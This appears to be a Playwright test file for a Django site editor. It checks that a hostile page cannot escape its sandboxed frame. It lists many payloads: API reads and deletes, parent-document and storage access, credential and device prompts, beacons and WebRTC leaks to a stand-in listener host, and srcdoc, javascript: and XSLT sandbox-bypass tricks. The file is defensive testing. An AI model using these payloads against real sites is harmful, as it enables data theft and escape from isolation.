"""What a hostile page tries, with its scripts let run, in the real browser: none of it gets anywhere."""

from __future__ import annotations

import re
import socket
import threading
from typing import Any

from django.conf import settings
from hillpin.sites.models import Site
from hillpin.sites.store import NewFile, add_site

from .base import InterfaceCase

TRY = """
<!DOCTYPE html><title>Hostile</title><p id=p>hostile</p>
<script>
  const tried = {};
  const attempt = (name, what) => { try { const got = what(); Promise.resolve(got).then(value => tried[name] = ['got', String(value)], error => tried[name] = ['refused', String(error)]); } catch (error) { tried[name] = ['refused', String(error)]; } };
  window.tried = tried; window.attempt = attempt;
</script>
"""

REFUSED: dict[str, str] = {
    "read the list of sites": "fetch('OWN/api/sites').then(r => r.text())",
    "read it without looking": "fetch('OWN/api/sites', {mode: 'no-cors'}).then(r => r.text().then(t => { if (!t) throw new Error('opaque'); return t; }))",
    "save a file": "fetch('OWN/api/sites/1/file', {method: 'PUT', body: '{}'}).then(r => r.text())",
    "remove a site": "fetch('OWN/api/sites/1', {method: 'DELETE'}).then(r => r.text())",
    "ask by an old way": "new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = () => yes(x.responseText); x.onerror = () => no('error'); x.open('GET', 'OWN/api/sites'); x.send(); })",
    "read its own source": "fetch(location.href).then(r => r.text())",
    "open a line": "new Promise((yes, no) => { const s = new WebSocket('OWN/api/line'.replace('http', 'ws')); s.onopen = () => yes('open'); s.onerror = () => no('error'); })",
    "listen to events": "new Promise((yes, no) => { const s = new EventSource('OWN/api/sites'); s.onopen = () => yes('open'); s.onerror = () => no('error'); })",
    "read the application's document": "parent.document.title",
    "read the application's storage": "parent.localStorage.length",
    "read the application's address": "parent.location.href",
    "run in the application": "parent.eval('1')",
    "keep something": "localStorage.setItem('a', 'b')",
    "keep something for now": "sessionStorage.setItem('a', 'b')",
    "keep a database": "new Promise((yes, no) => { const r = indexedDB.open('a'); r.onsuccess = () => yes('open'); r.onerror = () => no('error'); })",
    "keep files": "caches.open('a')",
    "set a cookie": "(() => { document.cookie = 'a=b'; if (!document.cookie) throw new Error('none'); return document.cookie; })()",
    "stay as a service": "navigator.serviceWorker.register('x.js')",
    "go on top": "(() => { top.location = 'OTHER/top'; })().x",
    "go on top by an address": "top.location.assign('OTHER/top')",
    "ask a person": "(() => { const said = confirm('x'); if (!said) throw new Error('closed'); return said; })()",
    "make a person type": "(() => { const said = prompt('x', 'y'); if (said === null) throw new Error('closed'); return said; })()",
    "open a window": "(() => { const w = open('OTHER/window'); if (!w) throw new Error('closed'); return w; })()",
    "fill the screen": "document.documentElement.requestFullscreen()",
    "hold the pointer": "new Promise((yes, no) => { document.onpointerlockchange = () => yes('locked'); document.onpointerlockerror = () => no('error'); document.body.requestPointerLock()?.then(yes, no); })",
    "hear": "navigator.mediaDevices.getUserMedia({audio: true})",
    "see": "navigator.mediaDevices.getUserMedia({video: true})",
    "see the screen": "navigator.mediaDevices.getDisplayMedia()",
    "know the place": "new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, error => no(error.message)))",
    "read what was copied": "navigator.clipboard.readText()",
    "copy": "navigator.clipboard.writeText('x')",
    "tell by a notice": "Notification.requestPermission().then(said => { if (said !== 'granted') throw new Error(said); return said; })",
    "ask for a port": "navigator.serial.requestPort()",
    "ask for a plug": "navigator.usb.requestDevice({filters: []})",
    "ask for a device": "navigator.hid.requestDevice({filters: []})",
    "ask for a radio": "navigator.bluetooth.requestDevice({acceptAllDevices: true})",
    "keep the screen on": "navigator.wakeLock.request('screen')",
    "make music": "navigator.requestMIDIAccess()",
    "take money": "new PaymentRequest([{supportedMethods: 'x'}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).show()",
    "share": "navigator.share({text: 'x'})",
    "list the fonts": "queryLocalFonts()",
    "hold a credential": "navigator.credentials.get({password: true}).then(found => { if (!found) throw new Error('none'); return found; })",
    "load a script from elsewhere": "new Promise((yes, no) => { const s = document.createElement('script'); s.src = 'OTHER/s.js'; s.onload = () => yes('ran'); s.onerror = () => no('error'); document.head.append(s); })",
    "load a module from elsewhere": "import('OTHER/m.js')",
    "work beside": "new Promise((yes, no) => { const w = new Worker('OTHER/w.js'); w.onmessage = yes; w.onerror = () => no('error'); })",
    "work beside on words": "new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => yes('works'); w.onerror = () => no('error'); })",
    "tell by a beacon": "(() => { navigator.sendBeacon('OTHER/beacon', 'x'); throw new Error('seen by who listens'); })()",
    "connect to others": "new RTCPeerConnection({iceServers: [{urls: 'stun:OTHERHOST'}]}).createOffer({offerToReceiveAudio: true}).then(() => new Promise((yes, no) => { const c = new RTCPeerConnection({iceServers: [{urls: 'stun:OTHERHOST'}]}); c.createDataChannel('x'); c.onicecandidate = event => event.candidate ? yes(event.candidate.candidate) : no('none'); c.createOffer().then(offer => c.setLocalDescription(offer)); }))",
    "connect to others by an older name": "new webkitRTCPeerConnection({}).createOffer()",
    "connect to others from a frame inside": "(() => { const f = document.createElement('iframe'); document.body.append(f); return new f.contentWindow.RTCPeerConnection({}); })()",
    "connect to others from an object inside": "(() => { const f = document.createElement('object'); f.data = 'about:blank'; document.body.append(f); return new f.contentWindow.RTCPeerConnection({}); })()",
    "take what was taken away": "(() => { delete window.RTCPeerConnection; window.RTCPeerConnection = 1; return new RTCPeerConnection({}); })()",
}
"""Each must be refused; ``OWN`` is the application's origin, ``OTHER`` a listener that must hear nothing."""

ASKING: tuple[str, ...] = (
    "<img src='OTHER/picture'>",
    "<link rel=stylesheet href='OTHER/sheet.css'>",
    "<link rel=dns-prefetch href='OTHER'>",
    "<link rel=prefetch href='OTHER/prefetch'>",
    "<link rel=preload as=image href='OTHER/preload'>",
    "<link rel=modulepreload href='OTHER/module.js'>",
    "<link rel=icon href='OTHER/icon'>",
    "<link rel=manifest href='OTHER/manifest'>",
    "<style>@import 'OTHER/import.css'; p { background: url(OTHER/background); cursor: url(OTHER/cursor), auto } @font-face { font-family: x; src: url(OTHER/font) } p { font-family: x }</style>",
    "<iframe src='OTHER/frame'></iframe>",
    "<object data='OTHER/object'></object><embed src='OTHER/embed'>",
    "<video src='OTHER/video' poster='OTHER/poster' autoplay></video><audio src='OTHER/audio' autoplay></audio>",
    "<svg><image href='OTHER/svg-image' /><use href='OTHER/svg-use#a' /></svg>",
)
"""Markup that asks for something and leaves the page where it is: all of it stands in one page, each with an address of its own."""

GOING: tuple[str, ...] = (
    "<base href='OTHER/'><img src='from-base'>",
    "<meta http-equiv=refresh content='0;url=OTHER/refresh'>",
    "<form action='OTHER/form' id=f><button>x</button></form><script>document.getElementById('f').submit()</script>",
    "<a href='OTHER/link' id=a>x</a><script>document.getElementById('a').click()</script>",
    "<a href='OTHER/ping-link' ping='OTHER/ping' target=_blank id=b>x</a><script>document.getElementById('b').click()</script>",
    "<a href='OTHER/download' download id=c>x</a><script>document.getElementById('c').click()</script>",
    "<script>location = 'OTHER/location'</script>",
    "<script>location.replace('OTHER/replace')</script>",
    "<script>parent.frames[0].location = 'OTHER/sibling'</script>",
    "<script>new Image().src = 'OTHER/beacon-picture'; navigator.sendBeacon('OTHER/beacon', 'x')</script>",
    "<script>window.open('OTHER/open'); window.open('OTHER/open-self', '_self'); window.open('OTHER/open-top', '_top')</script>",
)


NESTED: dict[str, str] = {
    "by its property": "F().srcdoc = S",
    "by an attribute": "F().setAttribute('SrcDoc', S)",
    "by an attribute with a namespace": "F().setAttributeNS(null, 'srcdoc', S)",
    "by an attribute made before": "(() => { const a = document.createAttribute('srcdoc'); a.value = S; F().setAttributeNode(a); })()",
    "by a list of attributes": "(() => { const a = document.createAttribute('srcdoc'); a.value = S; F().attributes.setNamedItem(a); })()",
    "by an attribute's value": "(() => { const f = F(); f.setAttribute('srcdoc', ''); f.attributes.srcdoc.value = S; })()",
    "by an attribute's words": "(() => { const f = F(); f.setAttribute('srcdoc', ''); f.attributes.srcdoc.textContent = S; })()",
    "by another element's attribute": "(() => { const d = document.createElement('div'); d.setAttribute('srcdoc', S); F().setAttributeNode(d.removeAttributeNode(d.attributes.srcdoc)); })()",
    "by markup": "document.body.insertAdjacentHTML('beforeend', M)",
    "by markup in a range": "(() => { const r = document.createRange(); r.selectNode(document.body.firstChild); document.body.append(r.createContextualFragment(M)); })()",
    "by markup that is said to be unsafe": "(() => { const d = document.createElement('div'); document.body.append(d); d.setHTMLUnsafe(M); })()",
    "by another document": "document.body.append(new DOMParser().parseFromString(M, 'text/html').body.firstChild)",
    "by XML": "document.body.append(document.adoptNode(new DOMParser().parseFromString(M.replace('iframe', 'iframe xmlns=\\'http://www.w3.org/1999/xhtml\\'').replaceAll('<s', '&lt;s').replaceAll('</s', '&lt;/s'), 'application/xml').documentElement))",
    "by XML's type of a document": "document.body.append(document.adoptNode(new DOMParser().parseFromString(`<!DOCTYPE iframe [<!ATTLIST iframe src${''}doc CDATA '${S.replaceAll('<', '&lt;')}'>]><iframe xmlns='http://www.w3.org/1999/xhtml'></iframe>`, 'application/xml').documentElement))",
    "by XML's entities": "document.body.append(document.adoptNode(new DOMParser().parseFromString(`<!DOCTYPE r [<!ENTITY x \"&#60;iframe xmlns='http://www.w3.org/1999/xhtml' srcd&#111;c='${S.replaceAll('<', '&#38;lt;').replaceAll('\"', '&#38;quot;')}'/>\">]><r>&x;</r>`, 'application/xml').documentElement.firstChild))",
    "by a transformation": "(() => { const X = 'http://www.w3.org/1999/XSL/Transform', d = document.implementation.createDocument(X, 'xsl:stylesheet'), t = d.createElementNS(X, 'xsl:template'), f = d.createElementNS('', 'iframe'); d.documentElement.setAttribute('version', '1.0'); t.setAttribute('match', '/'); f.setAttribute('srcdoc', S); t.append(f); d.documentElement.append(t); const p = new XSLTProcessor(); p.importStylesheet(d); document.body.append(p.transformToFragment(document.implementation.createDocument('', 'r'), document)); })()",
    "by an address that is a script": "(() => { const f = document.createElement('iframe'); f.src = 'java\\nscript:parent.postMessage(\\'runs\\', \\'*\\')'; document.body.append(f); })()",
    "by a link that is a script": "(() => { const f = F(), a = document.createElement('a'); f.name = a.target = 'inside'; a.href = 'javascript:parent.postMessage(\\'runs\\', \\'*\\')'; document.body.append(a); a.click(); })()",
    "by an address of data": "(() => { const f = document.createElement('iframe'); f.src = `data:text/html,${S}`; document.body.append(f); })()",
    "by an address of a blob": "(() => { const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([S], {type: 'text/html'})); document.body.append(f); })()",
    "by a policy of its own": "trustedTypes.createPolicy('default', {createHTML: html => html})",
    "with the methods replaced": "(() => { const kept = [RegExp.prototype.exec, String.prototype.indexOf, String.prototype.charCodeAt]; RegExp.prototype.exec = () => null; String.prototype.indexOf = () => 0; String.prototype.charCodeAt = () => 0; document.body.insertAdjacentHTML('beforeend', M); [RegExp.prototype.exec, String.prototype.indexOf, String.prototype.charCodeAt] = kept; })()",
}
"""How a page may come by a frame with scripts of its own, which would have what was taken away: none of them runs."""

WRITTEN: tuple[str, ...] = (
    "<iframe SRCDOC\n=\"<script>parent.postMessage('runs', '*')</script>\"></iframe>",
    "<svg><foreignObject><iframe srcdoc=\"<script>parent.postMessage('runs', '*')</script>\"></iframe></foreignObject></svg>",
    "<iframe src=\"javascript:parent.postMessage('runs', '*')\"></iframe>",
    "<script>document.write('<iframe srcd'); document.write('oc=\"<script>parent.postMessage(`runs`, `*`)<', '/script>\"></iframe>')</script>",
)
"""The same, written in the page."""

BEFORE: tuple[str, ...] = (
    "<!-- <head> --><!DOCTYPE html><script>window.had = typeof RTCPeerConnection</script>",
    "<!--> <head><script>window.had = typeof RTCPeerConnection</script> -->",
    "<!-- a --!> <head><script>window.had = typeof RTCPeerConnection</script> -->",
    "<html x='<head>'><script>window.had = typeof RTCPeerConnection</script>",
    "<html onload=1 x=\"'\" y='\"><head>'><script>window.had = typeof RTCPeerConnection</script>",
    "<title><head></title><script>window.had = typeof RTCPeerConnection</script>",
    "\ufeff<!-- x --> <!doctype html><html lang=en><head data-x='>'><script>window.had = typeof RTCPeerConnection</script>",
)
"""Beginnings of pages that would be first, before what takes things away."""


class Listener:
    """Somebody elsewhere, who notes the first line of whatever reaches them."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.origin = f"http://127.0.0.1:{self.socket.getsockname()[1]}"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                caller, _ = self.socket.accept()
            except OSError:
                return
            with caller:
                self.heard.append(caller.recv(200).decode("latin-1").split("\r\n")[0])

    def close(self) -> None:
        self.socket.close()


class Escapes(InterfaceCase):
    keeps_tab = False

    def setUp(self) -> None:
        super().setUp()
        self.listener = Listener()
        self.addCleanup(self.listener.close)

    def put(self, page: str) -> Any:
        """Open a hostile page in Write, its scripts let run, and give its frame when it has begun."""
        site = add_site("Hostile", [NewFile("index.html", page.replace("OTHERHOST", self.listener.origin[7:]).replace("OTHER", self.listener.origin).encode())])
        Site.objects.filter(pk=site.pk).update(runs_scripts=True)
        self.open(f"/sites/{site.pk}/write")
        self.page.locator("iframe").wait_for()
        return self.frame()

    def test_what_scripts_try(self) -> None:
        frame = self.put(TRY)
        frame.locator("#p").wait_for()
        inner = self.page.frames[1]
        for name, what in REFUSED.items():
            words = what.replace("OTHERHOST", self.listener.origin[7:]).replace("OTHER", self.listener.origin).replace("OWN", self.live_server_url)
            inner.evaluate("([name, what]) => attempt(name, () => eval(what))", [name, words])
        inner.wait_for_function(f"() => Object.keys(tried).length === {len(REFUSED)}")
        tried = inner.evaluate("() => tried")
        self.assertEqual({name: said for name, said in tried.items() if said[0] != "refused"}, {})
        self.assertEqual(self.listener.heard, [])
        self.assertIn("/write", self.page.url)

    def test_frames_inside_run_no_script(self) -> None:
        frame = self.put(f"<!DOCTYPE html><title>x</title><script>window.told = []; addEventListener('message', event => {{ if (event.data === 'runs') told.push(event.data); }});</script>{''.join(WRITTEN)}<p id=p>hostile</p>")
        frame.locator("#p").wait_for()
        inner = self.page.frames[1]
        inner.evaluate("""() => {
          window.F = () => document.body.appendChild(document.createElement("iframe"));
          window.S = '<script>parent.postMessage("runs", "*")</script>';
          window.M = `<iframe srcdoc='${S}'></iframe>`;
        }""")
        for name, what in NESTED.items():
            with self.subTest(name):
                inner.evaluate("what => { try { eval(what); } catch {} }", what)
                # A document that stands in an attribute is there a turn later.
                inner.evaluate("() => Promise.all([...document.querySelectorAll('iframe')].map(frame => new Promise(done => { frame.onload = done; setTimeout(done, 0); })))")
                self.had_its_turn()
                self.assertEqual(inner.evaluate("told"), [])
        self.assertGreaterEqual(inner.evaluate("document.querySelectorAll('iframe').length"), len(NESTED) - 4)

    def test_a_page_does_as_before_with_its_own_markup(self) -> None:
        frame = self.put("<!DOCTYPE html><title>x</title><p id=p>hostile</p><script>document.write('<b>wri', 'tten</b>'); document.getElementById('p').innerHTML = '<i onclick=\\'this.title = 1\\'>made</i>'; const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s);</script>")
        frame.locator("i").wait_for()
        inner = self.page.frames[1]
        self.assertEqual(inner.evaluate("[document.querySelector('b').textContent, window.ran]"), ["written", 1])
        inner.evaluate("document.querySelector('i').onclick()")
        self.assertEqual(inner.evaluate("document.querySelector('i').title"), "1")

    def test_nothing_stands_before_what_takes_away(self) -> None:
        for beginning in BEFORE:
            with self.subTest(beginning):
                self.put(f"{beginning}<p id=p>hostile</p>").locator("#p").wait_for()
                self.assertEqual(self.page.frames[1].evaluate("window.had"), "undefined")

    def test_a_picture_that_is_a_document_runs_no_script(self) -> None:
        """Only pages have what takes things away: nothing else of a site runs a script, wherever the frame is led."""
        site = add_site("Hostile", [NewFile("index.html", b"<!DOCTYPE html><title>x</title><p id=p>hostile"), NewFile("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><text id='t'>x</text><script>document.getElementById('t').textContent = typeof RTCPeerConnection</script></svg>")])
        Site.objects.filter(pk=site.pk).update(runs_scripts=True)
        self.open(f"/sites/{site.pk}/write")
        self.frame().locator("#p").wait_for()
        inner = self.page.frames[1]
        inner.evaluate("() => { location.href = 'a.svg'; }")
        self.frame().locator("#t").wait_for(state="attached")
        self.assertEqual(inner.evaluate("document.getElementById('t').textContent"), "x")

    def had_its_turn(self) -> None:
        """The frame's own picture, asked for after all of that, is there: so everything before has had its turn."""
        self.page.get_by_label("Source of index.html").wait_for()
        self.page.evaluate("() => new Promise(done => requestIdleCallback(done))")

    def test_what_markup_asks_for(self) -> None:
        self.put(f"<!DOCTYPE html><title>x</title><p id=p>hostile</p>{''.join(ASKING)}")
        self.had_its_turn()
        for markup in ASKING:
            with self.subTest(markup):
                addresses = re.findall(r"OTHER(/[-.a-z]+)", markup)
                self.assertEqual([line for line in self.listener.heard if any(address in line for address in addresses)], [])
        self.assertEqual(self.listener.heard, [])
        self.assertIn("/write", self.page.url)

    def test_where_markup_goes(self) -> None:
        for markup in GOING:
            with self.subTest(markup):
                self.put(f"<!DOCTYPE html><title>x</title><p id=p>hostile</p>{markup}")
                self.had_its_turn()
                self.assertEqual(self.listener.heard, [])
                self.assertIn("/write", self.page.url)

    def test_other_websites(self) -> None:
        """A page of another origin in the same browser: it frames, reads and writes nothing."""
        self.open("/")
        other = self.context.new_page()
        other.route("http://elsewhere.example/", lambda route: route.fulfill(content_type="text/html", body="<p>elsewhere</p>"))
        other.goto("http://elsewhere.example/")
        own = self.live_server_url
        for what in (
            f"fetch('{own}/api/sites').then(r => r.text())",
            f"fetch('{own}/api/sites', {{method: 'POST', headers: {{'Content-Type': 'text/plain'}}, body: '{{}}'}}).then(r => r.text())",
            f"new Promise((yes, no) => {{ const s = new WebSocket('{own}/api/line'.replace('http', 'ws')); s.onopen = () => yes('open'); s.onclose = () => no('closed'); }})",
            f"new Promise((yes, no) => {{ const i = new Image(); i.onload = () => yes('seen'); i.onerror = () => no('error'); i.src = '{own}/favicon.svg'; }})",
            f"new Promise((yes, no) => {{ const s = document.createElement('script'); s.onload = () => yes('ran'); s.onerror = () => no('error'); s.src = '{own}/api/sites'; document.head.append(s); }})",
        ):
            said = other.evaluate("what => eval(what).then(got => 'got ' + got, error => 'refused')", what)
            self.assertEqual(said, "refused", what)
        framed = other.evaluate(f"() => new Promise(done => {{ const f = document.createElement('iframe'); f.onload = () => {{ try {{ done(f.contentDocument === null ? 'closed' : 'open'); }} catch {{ done('closed'); }} }}; f.src = '{own}/'; document.body.append(f); }})")
        self.assertEqual(framed, "closed")
        self.assertTrue(all(one.url == "chrome-error://chromewebdata/" for one in other.frames[1:]))

    def test_pages_are_of_another_origin_than_the_application(self) -> None:
        self.open_write()
        address = self.page.locator("iframe").get_attribute("src") or ""
        self.assertNotEqual(address.split("/pages/")[0], self.live_server_url)
        pages = address.split("/pages/")[0]
        inner = self.page.frames[1]
        self.assertEqual(inner.evaluate("self.origin"), "null")
        # Neither port serves what is the other's.
        self.assertEqual(self.context.request.get(f"{pages}/api/sites").status, 404)
        self.assertEqual(self.context.request.get(f"{self.live_server_url}/pages/{address.split('/pages/')[1]}").status, 404)
        self.assertTrue(settings.SECRET_KEY)
